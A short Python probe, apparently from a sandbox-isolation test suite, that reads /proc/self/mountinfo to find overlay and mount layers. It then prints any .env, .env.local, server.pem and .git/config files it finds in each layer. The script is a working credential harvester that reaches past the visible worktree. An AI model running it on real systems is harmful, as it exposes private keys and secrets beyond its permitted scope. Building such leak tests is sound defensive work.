"""Reads hidden files by the paths of the layers below, which the table of mounts names.

family: secrets
arguments: {worktree}
judge: loot env-file env-nested pem git-url
trace: lowerdir, upperdir, .env, server.pem, .git/config, /
"""

import contextlib
import os
import re
import sys

with open("/proc/self/mountinfo") as file:
    text = file.read()
layers = {part for found in re.findall(r"(?:lower|upper|work)dir[+]?=([^, \n]+)", text) for part in found.split(":")}
layers |= {line.split()[3] for line in text.splitlines()} | {sys.argv[1]}
for layer in sorted(layers):
    for name in (".env", "packages/api/.env.local", "deploy/server.pem", ".git/config"):
        with contextlib.suppress(OSError), open(os.path.join(layer, name), errors="replace") as file:
            print(file.read())
